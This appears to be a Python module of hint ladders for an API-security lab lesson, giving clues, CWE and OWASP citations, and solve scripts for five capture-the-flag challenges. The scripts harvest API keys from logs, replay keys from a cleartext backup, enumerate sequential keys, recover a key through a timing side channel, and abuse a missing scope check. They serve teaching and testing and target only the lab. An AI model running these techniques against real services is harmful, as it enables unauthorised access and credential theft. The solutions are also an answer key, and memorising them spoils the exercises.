"""Lesson 02's hint ladders: for each flag, a nudge, the technique (cited), then the steps.

The notebook states each attack's goal and a clue only; ``lab.hint(name)`` prints these one
at a time. Each third tier ends with one ``python`` block that, run on a fresh lab with
nothing but ``lab`` defined, captures the flag (``tests/lessons/test_hints.py`` runs it).
"""

from __future__ import annotations

HINTS: dict[str, tuple[str, str, str]] = {
    "key-in-url": (
        "Read the proxy's log at GET /ops/access-log line by line. Most lines are just a path; "
        "some carry more than a path. Who sent those, and what did they put in the URL?",
        "Credential harvesting from logs: a secret sent in a query string is written into "
        "every proxy, server and browser log it passes (CWE-598, Use of GET Request Method "
        "With Sensitive Query Strings; OWASP REST Security Cheat Sheet, 'Sensitive "
        "information in HTTP requests'; OWASP API Top 10 2023 API2:2023 Broken "
        "Authentication: 'Sends sensitive authentication details ... in the URL'). The key "
        "works wherever the real one does: in the X-API-Key header.",
        "Steps: 1. fetch the log; 2. pull the value of api_key= out of a logged URL; "
        "3. send it in the X-API-Key header to GET /shipments; 4. the answer holds the flag.\n"
        "```python\n"
        "import re\n"
        "\n"
        'lines = "\\n".join(lab.client.get("/ops/access-log").json())\n'
        'harvested = re.search(r"api_key=([^&\\s]+)", lines).group(1)\n'
        'answer = lab.client.get("/shipments", headers={"X-API-Key": harvested}).json()\n'
        'print("logged in as", answer["partner"])\n'
        'flag_url = answer["flag"]\nlab.check_flag("key-in-url", flag_url)\n'
        "```",
    ),
    "plaintext-at-rest": (
        "Read GET /backup/keys.json. What does each row hold, and could the server tell a "
        "value copied from it apart from what a partner sends?",
        "Replaying credentials from a leaked copy of a table that keeps them in cleartext "
        "(CWE-312, Cleartext Storage of Sensitive Information; OWASP API Top 10 2023 "
        "API2:2023 Broken Authentication: 'Uses plain text, non-encrypted, or weakly hashed "
        "passwords', and an API key is a program's password). Every row of the backup is a "
        "working credential; one partner's shipments carry the flag.",
        "Steps: 1. fetch the backup; 2. for each row, send its key in the "
        "X-API-Key header to GET /shipments; 3. keep the answer that holds a flag.\n"
        "```python\n"
        'rows = lab.client.get("/backup/keys.json").json()\n'
        "for row in rows:\n"
        '    answer = lab.client.get("/shipments", headers={"X-API-Key": row["key"]}).json()\n'
        '    if "flag" in answer:\n'
        '        print("the backup row of", row["partner"], "works")\n'
        '        flag_backup = answer["flag"]\n'
        '        lab.check_flag("plaintext-at-rest", flag_backup)\n'
        "        break\n"
        "```",
    ),
    "guessable-key": (
        "Look hard at your own key (in the card, or lab.users[0]['api_key']). Which part of it "
        "would be different in the key the API issued to the partner who signed up just "
        "before you?",
        "Enumerating predictable identifiers: a key made by a counter has neighbours one "
        "step away (CWE-340, Generation of Predictable Numbers or Identifiers; CWE-330, Use "
        "of Insufficiently Random Values; OWASP API Top 10 2023 API2:2023: 'Uses weak or "
        "predictable tokens to enforce authentication').",
        "Steps: 1. read the number in your key; 2. try the numbers just below and above it "
        "with the same prefix, in the X-API-Key header; 3. a neighbour that answers 200 with "
        "a flag is another partner.\n"
        "```python\n"
        'mine = int(lab.users[0]["api_key"].removeprefix("pk_"))\n'
        "for n in [*range(mine - 10, mine), *range(mine + 1, mine + 11)]:\n"
        '    answer = lab.client.get("/shipments", headers={"X-API-Key": f"pk_{n}"})\n'
        '    if answer.status_code == 200 and "flag" in answer.json():\n'
        '        print(f"pk_{n} belongs to", answer.json()["partner"])\n'
        '        flag_guess = answer.json()["flag"]\n'
        '        lab.check_flag("guessable-key", flag_guess)\n'
        "        break\n"
        "```",
    ),
    "timing-leak": (
        "Send keys of the device key's length (8 characters: 'iot-' and 4 more) that differ "
        "only in the 5th character, and time each answer. A key of another length is refused "
        "at once, with nothing to measure. Does one candidate take longer than the others?",
        "A timing side channel on an early-exit comparison (CWE-208, Observable Timing "
        "Discrepancy): the compare stops at the first wrong character, so each right one "
        "makes the answer slower. Recover the key one character at a time: time every "
        "candidate several times, taking turns, and keep each one's *fastest* answer (load "
        "only ever adds delay, so the fastest is the least noisy); then try the 16 possible "
        "last characters outright.",
        "Steps: 1. for the 5th character, time all 16 hex candidates (pad to 8 characters "
        "with '0'), round after round, keeping each candidate's fastest answer; 2. the right "
        "one is the slowest of those: stop once the same one leads the runner-up by ~1.5 ms "
        "for 3 rounds running; 3. repeat "
        "for the 6th and 7th; 4. try the 16 last characters; 5. if none answers 200, noise "
        "fooled you: measure again.\n"
        "```python\n"
        "import time\n"
        "\n"
        'HEX = "0123456789abcdef"\n'
        "\n"
        "def one_round(prefix, pad, fastest):\n"
        "    for c in HEX:  # round robin: a burst of load slows every candidate alike\n"
        "        start = time.perf_counter()\n"
        '        lab.client.get("/shipments", headers={"X-API-Key": prefix + c + pad})\n'
        "        fastest[c] = min(fastest.get(c, 9.0), time.perf_counter() - start)\n"
        "\n"
        "def next_char(prefix, pad):\n"
        "    fastest, leader, streak = {}, None, 0\n"
        "    for rounds in range(1, 41):\n"
        "        one_round(prefix, pad, fastest)\n"
        "        first, second = sorted(fastest, key=fastest.get, reverse=True)[:2]\n"
        "        clear = fastest[first] - fastest[second] > 0.0015  # a right one costs 3 ms\n"
        "        streak = streak + 1 if clear and first == leader else int(clear)\n"
        "        leader = first\n"
        "        if rounds >= 5 and streak >= 3:  # the same clear leader, 3 rounds running\n"
        "            break\n"
        "    return leader\n"
        "\n"
        "def recover():\n"
        '    known = "iot-"\n'
        "    for left in (3, 2, 1):\n"
        '        known += next_char(known, "0" * left)\n'
        "    for c in HEX:\n"
        '        answer = lab.client.get("/shipments", headers={"X-API-Key": known + c})\n'
        "        if answer.status_code == 200:\n"
        '            return answer.json()["flag"]\n'
        "\n"
        "for attempt in range(3):  # no last character fits: noise fooled us, measure again\n"
        "    flag = recover()\n"
        "    if flag:\n"
        "        break\n"
        'flag_timing = flag\nlab.check_flag("timing-leak", flag_timing)\n'
        "```",
    ),
    "over-broad-key": (
        "Your integration is a read-only dashboard, and the card says which scope its key "
        "has. Does the API check what a key is *for*, or only that it is valid? Try "
        "something a read-only key should not be able to do.",
        "Broken function level authorization: the server authenticates the key but never "
        "checks its scopes against the action (OWASP API Top 10 2023 API5:2023 Broken "
        "Function Level Authorization; CWE-285, Improper Authorization).",
        "Steps: 1. POST /shipments with your own key in the X-API-Key header and a JSON body "
        "naming a destination; 2. a 201 means a read-only key just wrote, and the answer "
        "holds the flag.\n"
        "```python\n"
        'mine = {"X-API-Key": lab.users[0]["api_key"]}\n'
        'booked = lab.client.post("/shipments", headers=mine, json={"destination": "Oslo"})\n'
        'print(booked.status_code, "with a read-only key")\n'
        'flag_scope = booked.json()["flag"]\nlab.check_flag("over-broad-key", flag_scope)\n'
        "```",
    ),
}
